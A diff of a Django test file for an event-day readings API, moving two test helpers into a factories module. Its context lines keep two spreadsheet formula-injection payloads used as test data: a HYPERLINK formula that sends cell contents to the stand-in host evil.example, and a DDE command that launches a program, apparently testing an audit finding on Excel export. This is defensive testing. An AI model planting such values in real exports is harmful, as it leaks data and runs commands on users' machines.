@@ -10,30 +10,18 @@ from django.db.models import F
 from django.urls import reverse
 from django.utils import timezone
 from openpyxl import load_workbook
-from rest_framework.test import APIClient
 
 from eventday.models import Alert, EventTally, GateReading, Zone, ZoneMinute
 from eventday.services import readings_ingest
 from events.models import Event, Venue
 
-from .factories import district_reviewer, live_event, reading
+from .factories import device_client, district_reviewer, item, live_event, reading
 
 pytestmark = pytest.mark.django_db
 READINGS = "/api/eventday/readings/"
 
 EVENT_NAME = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看")'
 VENUE_NAME = "=cmd|' /C calc'!A0"
-
-
-def device_client(token):
-    client = APIClient()
-    client.credentials(HTTP_AUTHORIZATION=f"Device {token}")
-    return client
-
-
-def item(gate, sequence, count_in=0, count_out=0):
-    return {"gate": gate, "time": timezone.now().isoformat(), "in": count_in, "out": count_out,
-            "sequence": sequence}
 
 
 # ---------------------------------------------------------------------------------------------- finding 5
